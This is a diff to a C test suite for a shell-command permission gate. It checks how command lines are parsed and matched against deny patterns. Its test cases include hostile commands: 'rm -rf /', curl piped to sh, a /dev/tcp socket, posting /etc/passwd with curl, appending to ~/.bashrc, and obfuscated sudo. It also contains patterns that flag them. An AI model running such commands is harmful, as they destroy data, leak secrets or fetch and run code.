@@ -9,6 +9,7 @@
 
 #include "arena.h"
 #include "match.h"
+#include "shell_read.h"
 
 static struct cp_arena *ar;
 
@@ -101,14 +102,30 @@ static const struct {
      "quote or backslash in a word pattern (commands are matched after quote "
      "removal; use a regex for such text)"},
     {"curl * | sh", 0, false,
-     "shell operator in a word pattern (each simple command is matched on "
-     "its own; use a regex to match across commands)"},
+     "'|' outside '{...|...}' (alternatives are written {a|b}; each simple "
+     "command is matched on its own)"},
     {"a && b", 0, false,
      "shell operator in a word pattern (each simple command is matched on "
      "its own; use a regex to match across commands)"},
-    {"ls >x", 0, false,
-     "shell operator in a word pattern (each simple command is matched on "
-     "its own; use a regex to match across commands)"},
+    {"ls a>x", 0, false,
+     "shell operator in a word pattern (a redirection is written as one word "
+     "starting with '>' or '<')"},
+    {"ls >", 0, false,
+     "a redirection pattern needs a target ('>*.bashrc')"},
+    {"git push --force*", 0, false,
+     "'*' in an option name (options are matched by name)"},
+    {"git push {-f|--force", 0, false,
+     "'|' outside '{...|...}' (alternatives are written {a|b}; each simple "
+     "command is matched on its own)"},
+    {"git push {-f||--force}", 0, false, "empty alternative in '{...|...}'"},
+    {"git {push|-f}", 0, false, "alternatives mix options and words"},
+    {"rm {-rf|-x}", 0, false,
+     "a short option with a value, or in alternatives, is one letter (write "
+     "-f, not -rf)"},
+    {"curl --data=", 0, false,
+     "empty value after '=' in an option (write the option alone to match "
+     "any value)"},
+
     {"(a", 0, true, NULL},
     {"a{1", 0, true, NULL},
     {"[z-a]", 0, true, NULL},
@@ -154,25 +171,37 @@ START_TEST(parse_single_repetition)
 }
 END_TEST
 
-/* ---- splitting ---------------------------------------------------------- */
+/* ---- reading (compiler/shell_read.c) --------------------------------- */
 
+/* Every reading, words in [], redirections as {OP TARGET}; then ?unknown
+ * and !error. */
 static const char *render(const char *line)
 {
-    const char ***parts;
-    size_t n = cp_gate_split(ar, line, &parts);
+    struct cp_sh_read rd;
+    cp_sh_read(ar, line, strlen(line), &rd);
     struct cp_buf b = {0};
     cp_buf_adds(&b, "");
-    for (size_t i = 0; i < n; i++) {
+    static const char *const ops[] = {"<", ">", "<>", "<<<", "<<", "dup"};
+    for (size_t i = 0; i < rd.ncmds; i++) {
         if (i)
             cp_buf_adds(&b, " ; ");
-        for (size_t j = 0; parts[i][j]; j++)
-            cp_buf_printf(&b, "[%s]", parts[i][j]);
+        for (size_t j = 0; j < rd.cmds[i].n; j++)
+            cp_buf_printf(&b, "[%s]", rd.cmds[i].w[j].text);
+        for (size_t j = 0; j < rd.cmds[i].nr; j++)
+            cp_buf_printf(&b, "{%s%s}", ops[rd.cmds[i].r[j].op],
+                          rd.cmds[i].r[j].target.text);
     }
+    if (rd.unknown)
+        cp_buf_printf(&b, " ?%s", rd.unknown);
+    if (rd.error)
+        cp_buf_printf(&b, " !%s", rd.error);
     const char *r = cp_arena_strdup(ar, b.data);
     cp_buf_free(&b);
     return r;
 }
 
+#define UNK_STDIN " ?a shell or interpreter reads its program from standard " \
+                  "input (a pipe, a substitution or the terminal)"
 static const struct {
     const char *line, *parts;
 } split_cases[] = {
@@ -183,6 +212,8 @@ static const struct {
     {"echo 'a && b' \"c ; d\"", "[echo][a && b][c ; d]"},
     {"echo a\\ b \\; c", "[echo][a b][;][c]"},
     {"echo \"x \\\" y\" 'it''s' \"a\\b\"", "[echo][x \" y][its][a\\b]"},
+    {"su''do id", "[sudo][id] ; [id]"},
+    {"s\\udo id", "[sudo][id] ; [id]"},
     {"echo $(git push --force) done",
      "[git][push][--force] ; [echo][$(git push --force)][done]"},
     {"echo `rm -rf x`", "[rm][-rf][x] ; [echo][`rm -rf x`]"},
@@ -190,28 +221,73 @@ static const struct {
     {"echo $(echo $(rm -rf x))",
      "[rm][-rf][x] ; [echo][$(rm -rf x)] ; [echo][$(echo $(rm -rf x))]"},
     {"echo $(a ')' b) c", "[a][)][b] ; [echo][$(a ')' b)][c]"},
-    {"cat <(curl x) > out 2>&1", "[curl][x] ; [cat][<(curl x)]"},
+    {"cat <(curl x) > out 2>&1", "[curl][x] ; [cat][<(curl x)]{>out}{dup1}"},
     {"ls >file; ls 2> err -l; ls &>/dev/null; ls a>b 3<&0",
-     "[ls] ; [ls][-l] ; [ls] ; [ls][a]"},
-    {"cat <<EOF\ngit push\nEOF", "[cat] ; [git][push] ; [EOF]"},
+     "[ls]{>file} ; [ls][-l]{>err} ; [ls]{>/dev/null} ; [ls][a]{>b}{dup0}"},
+    {"exec 3<>/dev/tcp/h/80", "[exec]{<>/dev/tcp/h/80}"},
+    {"cat <<EOF\ngit push\nEOF", "[cat]{<<EOF} ; [git][push] ; [EOF]"},
     {"echo a#b # comment && rm x\nrm y", "[echo][a#b] ; [rm][y]"},
     {"(cd x && make) | tee log", "[cd][x] ; [make] ; [tee][log]"},
-    {"FOO=1 BAR='a b' git push", "[FOO=1][BAR=a b][git][push]"},
+    {"FOO=1 BAR='a b' git push",
+     "[FOO=1][BAR=a b][git][push] ; [BAR=a b][git][push] ; [git][push]"},
     {"echo '' \"\"", "[echo][][]"},
     {"", ""},
     {" ;; && ", ""},
     {"a\\\nb", "[ab]"},
-    {"echo 'abc", "[echo][abc]"},
-    {"echo \"abc", "[echo][abc]"},
-    {"echo $(rm x", "[rm][x] ; [echo][$(rm x]"},
+    {"echo 'abc", " !unterminated single quote"},
+    {"echo \"abc", " !unterminated double quote"},
+    {"echo $(rm x", " !unterminated substitution or group: ')' missing"},
+    {"echo `rm x", " !unterminated backquote"},
+    {"echo ${x", " !unterminated ${...}"},
     {"git commit -m \"fix; rm -rf /\"", "[git][commit][-m][fix; rm -rf /]"},
     {"echo \"`git push`\"", "[git][push] ; [echo][`git push`]"},
     {"echo `echo \\`rm x\\``",
      "[rm][x] ; [echo][`rm x`] ; [echo][`echo \\`rm x\\``]"},
-    {"x=1; y=2", "[x=1] ; [y=2]"},
+    {"x=1; y=2", "[x=1] ;  ; [y=2] ; "},
     {"trailing\\", "[trailing\\]"},
     {"echo $'a\\tb\\x41\\101\\'\\\\' $\"x y\"", "[echo][a\tbAA'\\][x y]"},
-    {"echo $'\\q\\x' $'un", "[echo][\\q\\x][un]"},
+    {"$'\\x73udo' id", "[sudo][id] ; [id]"},
+    {"{sudo,} id", "[{sudo,}][id] ?the program is named by an expansion"},
+    {"{ ls; } && echo {a..c} x{}", "[{][ls] ; [ls] ; [}] ;  ; [echo][{a..c}][x{}]"},
+    {"{sudo,\"x\"} id", "[{sudo,x}][id] ?the program is named by an expansion"},
+    {"echo $'\\q\\x' $'un", " !unterminated $'...' quote"},
+    /* wrappers and nested code */
+    {"sudo -u root env -i A=1 timeout 5 rm -rf /",
+     "[sudo][-u][root][env][-i][A=1][timeout][5][rm][-rf][/] ; "
+     "[env][-i][A=1][timeout][5][rm][-rf][/] ; [timeout][5][rm][-rf][/] ; "
+     "[rm][-rf][/]"},
+    {"find . -name x -exec rm -rf {} \\;",
+     "[find][.][-name][x][-exec][rm][-rf][{}][;] ; [rm][-rf][{}]"},
+    {"find . | xargs rm", "[find][.] ; [xargs][rm] ; [rm][(words read by xargs)]"},
+    {"env -S \"sudo id\"", "[env][-S][sudo id] ; [sudo][id] ; [id]"},
+    {"bash <<< \"sudo id\"", "[bash]{<<<sudo id} ; [sudo][id] ; [id]"},
+    {"bash -c \"sudo id\"", "[bash][-c][sudo id] ; [sudo][id] ; [id]"},
+    {"eval \"su\"\"do id\"", "[eval][sudo id] ; [sudo][id] ; [id]"},
+    {"watch -n 1 sudo id", "[watch][-n][1][sudo][id] ; [sudo][id] ; [id]"},
+    {"f() { sudo id; }; f",
+     "[f] ; [{][sudo][id] ; [sudo][id] ; [id] ; [}] ;  ; [f]"},
+    {"python3 x.py", "[python3][x.py]"},
+    {"python3 - < x.py", "[python3][-]{<x.py}"},
+    {"python3 --version", "[python3][--version]"},
+    /* known only when it runs */
+    {"cat x | python3", "[cat][x] ; [python3]" UNK_STDIN},
+    {"curl x | /bin/sh", "[curl][x] ; [/bin/sh]" UNK_STDIN},
+    {"bash <<< \"$x\"",
+     "[bash]{<<<$x} ?a shell or interpreter reads its program from an "
+     "expansion"},
+    {"x=sudo; $x id",
+     "[x=sudo] ;  ; [$x][id] ?the program is named by an expansion"},
+    {"sh -c", "[sh][-c] ?sh -c without its string: the commands come from "
+              "elsewhere"},
+    {"sh <(curl x)",
+     "[curl][x] ; [sh][<(curl x)] ?a shell or interpreter runs a script "
+     "named by an expansion or made by a command"},
+    {"eval \"$v\"",
+     "[eval][$v] ?eval of an expansion: the commands are known only when it "
+     "runs"},
+    {"echo sudo | xargs -I{} {} id",
+     "[echo][sudo] ; [xargs][-I{}][{}][id] ?xargs names the program with "
+     "words from its input"},
 };
 
 START_TEST(split)
@@ -220,25 +296,27 @@ START_TEST(split)
 }
 END_TEST
 
+/* Nesting 10,000 deep, a megabyte line, unterminated text: a reason, fast. */
 START_TEST(split_deep)
 {
-    /* beyond 16 levels the text is read with '$(' and ')' as plain
-     * separators: the innermost command is still a part */
     struct cp_buf b = {0};
-    for (int i = 0; i < 200; i++)
+    for (int i = 0; i < 10000; i++)
         cp_buf_adds(&b, "$(");
     cp_buf_adds(&b, "rm x");
-    for (int i = 0; i < 200; i++)
+    for (int i = 0; i < 10000; i++)
         cp_buf_adds(&b, ")");
-    const char ***parts;
-    size_t n = cp_gate_split(ar, b.data, &parts);
-    bool found = false;
-    for (size_t i = 0; i < n; i++)
-        if (parts[i][0] && strcmp(parts[i][0], "rm") == 0 && parts[i][1] &&
-            strcmp(parts[i][1], "x") == 0 && !parts[i][2])
-            found = true;
-    ck_assert(found);
-    ck_assert_uint_lt(n, 400);
+    struct cp_sh_read rd;
+    cp_sh_read(ar, b.data, b.len, &rd);
+    ck_assert_str_eq(rd.error, "nested more than 64 levels deep");
+    cp_buf_reset(&b);
+    for (int i = 0; i < 50; i++)
+        cp_buf_adds(&b, "$(");
+    cp_buf_adds(&b, "rm x");
+    for (int i = 0; i < 50; i++)
+        cp_buf_adds(&b, ")");
+    cp_sh_read(ar, b.data, b.len, &rd);
+    ck_assert_ptr_null(rd.error);
+    ck_assert(cp_gate_matches(G("rm *"), b.data, ar));
     cp_buf_free(&b);
 }
 END_TEST
@@ -252,20 +330,49 @@ static const struct {
     /* the word syntax */
     {"git push --force *", "git push --force origin main", true},
     {"git push --force *", "git push --force", true},
-    {"git push --force *", "git push origin --force", false},
+    {"git push --force *", "git push origin --force", true},
+    {"git push {--force|-f} *", "git push -f origin", true},
+    {"git push {--force|-f} *", "git push --forc origin", true}, /* a prefix */
+    {"git push {--force|-f} *", "git push --force-with-lease", false},
+    {"git push {--force|-f} *", "git push --follow-tags", false},
+    {"git push {--force|-f} *", "git -C dir -c k=v push --force", true},
+    {"git push {--force|-f} *", "git push -- -f", false},
+    {"git push -- -f *", "git push -- -f", true},
+    {"git push -- -f *", "git push -f", false},
+    {"git -c=alias.* *", "git -c alias.p=\"push --force\" p", true},
+    {"git -c=alias.* *", "git -calias.p=x p", true},
+    {"git -c=alias.* *", "git -c user.name=x commit", false},
+    {"curl --data-binary=@* *", "curl --data-binary @/etc/passwd x", true},
+    {"curl --data-binary=@* *", "curl --data-binary=@f x", true},
+    {"curl --data-binary=@* *", "curl --data-binary x y", false},
+    {"curl -d=@* *", "curl -sd@f x", true},
+    {"git push ** +* **", "git push origin +main", true},
+    {"git push ** +* **", "git push origin main +dev x", true},
+    {"git push ** +* **", "git push origin main", false},
+    {">*.bashrc", "echo x >> ~/.bashrc", true},
+    {">*.bashrc", "cat < ~/.bashrc", false},
+    {"<*.bashrc", "cat < ~/.bashrc", true},
+    {"<>/dev/tcp/*", "exec 3<>/dev/tcp/h/80", true},
+    {"tee ** *.bashrc", "tee -a ~/.bashrc", true},
+    {"{sudo|doas} *", "DOAS id", true}, /* program names: any case */
     {"git push --force", "git push --force origin", false},
     {"git * main", "git push main", true},
     {"git * main", "git push origin main", false},
     {"ls *", "lsof", false},
-    {"ls*", "lsof -i", false},
+    {"ls*", "lsof -i", true}, /* options are not positional */
+    {"ls*", "lsof x", false},
     {"ls*", "lsof", true},
     {"ls* *", "lsof -i", true},
-    {"git push --force*", "git push --force-with-lease", true},
+    
     {"*", "", true},
     {"*", "anything at all", true},
     {"* --force *", "git --force x", true},
     {"rm -rf *", "rm -rf /", true},
-    {"rm -rf *", "rm -r -f /", false},
+    {"rm -rf *", "rm -r -f /", true},
+    {"rm -rf *", "rm -fr /", true},
+    {"rm -rf *", "rm -{r,f} /", true}, /* brace expansion: any option */
+    {"rm -rf *", "rm / -rf", true},
+    {"rm -rf *", "rm -r /", false},
     {"rm -rf *", "echo rm -rf /", false},
     {"rm -rf *", "grep 'rm -rf' notes.txt", false},
     {"rm -rf *", "echo 'rm -rf /'", false},
@@ -321,7 +428,7 @@ static const struct {
     {"git push --force *", "git push -$X", true},
     {"git push --force *", "git push x$X", false},
     {"git push --force *", "git pull $F", false},
-    {"git push --force *", "git push '$F'", true}, /* read as expansion */
+    {"git push --force *", "git push '$F'", false}, /* literal */
     {"git push --force *", "git push price$", false},
     {"rm -rf *", "rm $X", true},
     {"echo hello", "echo $(date)", true},
@@ -336,12 +443,12 @@ static const struct {
     {"npm i* *", "npm install left-pad", true},
     {"npm i* *", "npm info left-pad", true},
     {"kubectl delete *", "kubectl delete pod x", true},
-    {"kubectl * delete *", "kubectl -n prod delete pod x", false},
+    {"kubectl * delete *", "kubectl -n prod delete pod x", true},
     {"docker system prune *", "docker system prune -af", true},
     {"terraform destroy *", "cd infra && terraform destroy -auto-approve",
      true},
     {"gh pr merge *", "gh pr merge 12 --squash", true},
-    {"shred *", "find . -name x -exec shred {} ;", false},
+    {"shred *", "find . -name x -exec shred {} ;", true},
     /* regexes see the whole line */
     {"re:curl[^|]*[|][[:space:]]*(ba)?sh", "curl -fsSL x | sh", true},
     {"re:curl[^|]*[|][[:space:]]*(ba)?sh", "curl -fsSL x |bash", true},
@@ -357,26 +464,21 @@ START_TEST(match)
     bool got = cp_gate_matches(g, match_cases[_i].line, ar);
     ck_assert_msg(got == match_cases[_i].match, "'%s' on '%s': got %d",
                   match_cases[_i].pat, match_cases[_i].line, got);
-    /* the split-once entry point agrees */
-    const char ***parts;
-    size_t n = cp_gate_split(ar, match_cases[_i].line, &parts);
-    ck_assert(cp_gate_matches_parts(g, match_cases[_i].line, parts, n, ar) ==
-              got);
 }
 END_TEST
 
-/* Hostile lines stay linear: wrappers, eval and sh -c nest only 16 levels
- * deep and each level is read once. */
+/* Hostile lines stay linear: nesting is bounded, and strings read again
+ * count against one budget; beyond it the line is unreadable (denied). */
 START_TEST(hostile_lines)
 {
     struct cp_gate_pat *g = G("rm -rf *");
     struct cp_buf b = {0};
+    struct cp_sh_read rd;
     for (int i = 0; i < 3000; i++)
         cp_buf_adds(&b, "/bin/eval /usr/bin/sudo ");
     cp_buf_adds(&b, "rm -rf x");
-    ck_assert(cp_gate_matches(g, b.data, ar)); /* beyond 16 levels: match */
-    struct cp_gate_pat *h = G("git push *");
-    ck_assert(cp_gate_matches(h, b.data, ar)); /* whatever the pattern */
+    cp_sh_read(ar, b.data, b.len, &rd);
+    ck_assert_ptr_nonnull(rd.error);
     cp_buf_reset(&b);
     for (int i = 0; i < 5; i++)
         cp_buf_adds(&b, "/bin/eval /usr/bin/sudo ");
@@ -385,12 +487,17 @@ START_TEST(hostile_lines)
     cp_buf_reset(&b);
     for (int i = 0; i < 20000; i++)
         cp_buf_adds(&b, "$(`'\"x; ");
-    ck_assert(!cp_gate_matches(g, b.data, ar));
+    cp_sh_read(ar, b.data, b.len, &rd);
+    ck_assert_ptr_nonnull(rd.error);
     cp_buf_reset(&b);
-    for (int i = 0; i < 100000; i++)
+    for (int i = 0; i < 15000; i++)
         cp_buf_adds(&b, "a && ");
     cp_buf_adds(&b, "rm -rf x");
     ck_assert(cp_gate_matches(g, b.data, ar));
+    for (int i = 0; i < 10000; i++)
+        cp_buf_adds(&b, "; a");
+    cp_sh_read(ar, b.data, b.len, &rd);
+    ck_assert_str_eq(rd.error, "more than 20,000 simple commands");
     cp_buf_free(&b);
 }
 END_TEST
@@ -400,12 +507,17 @@ END_TEST
 static const struct {
     const char *a, *b, *expect; /* contains(a,b), contains(b,a), overlaps */
 } rel_cases[] = {
-    {"git push *", "git push --force *", "YNY"},
-    {"git push --force *", "git push --force", "YNY"},
+    {"git push *", "git push --force *", "YMM"},
+    {"git push --force *", "git push --force", "YMM"},
     {"git *", "git push", "YNY"},
     {"git push", "git pull", "NNN"},
-    {"git * --force", "git push *", "NNY"},
-    {"rm -rf *", "rm -r*", "NNY"},
+    {"git * --force", "git push *", "MMM"},
+    {"rm -rf *", "rm -r *", "MYM"},
+    {"rm -rf *", "rm -fr /tmp/*", "YMM"},
+    {"git push {-f|--force} *", "git push -f *", "YMM"},
+    {"git push ** +* **", "git push ** +* **", "YYM"},
+    {">*.bashrc", ">*.bashrc", "YYM"},
+    {"{a|b} x", "a x", "MMM"},
     {"*", "anything *", "YNY"},
     {"*", "*", "YYY"},
     {"npm i*", "npm install", "YNY"},
@@ -416,8 +528,8 @@ static const struct {
     {"git", "git *", "NYY"},
     {"x*y*z", "x*z", "NYY"},
     {"git * *", "git *", "NYY"},
-    {"ls -l", "ls -la", "NNN"},
-    {"ls -l*", "ls -la", "YNY"},
+    {"ls -l", "ls -la", "YMM"},
+    
     {"git push * *", "git push", "NNN"},
     {"a *", "b *", "NNN"},
     {"*a*", "*b*", "NNY"},
@@ -453,7 +565,7 @@ END_TEST
 
 START_TEST(literal_prefix)
 {
-    ck_assert_uint_eq(cp_gate_literal_prefix(G("git push --force *")), 3);
+    ck_assert_uint_eq(cp_gate_literal_prefix(G("git push --force *")), 2);
     ck_assert_uint_eq(cp_gate_literal_prefix(G("git * main")), 1);
     ck_assert_uint_eq(cp_gate_literal_prefix(G("npm i*")), 1);
     ck_assert_uint_eq(cp_gate_literal_prefix(G("*")), 0);
@@ -505,8 +617,9 @@ START_TEST(brute_force_words)
     }
     for (int i = 0; i < NP; i++) {
         for (int j = 0; j < NP; j++) {
-            if (g[i].trailing_any || g[j].trailing_any)
-                continue; /* "*" alone: a sequence pattern, not a word */
+            if (g[i].trailing_any || g[j].trailing_any ||
+                strcmp(texts[i], "**") == 0 || strcmp(texts[j], "**") == 0)
+                continue; /* "*", "**" alone: sequence patterns, not words */
             bool sub = true, meet = false;
             for (size_t w = 0; w < nw; w++) {
                 if (m[j][w] && !m[i][w])
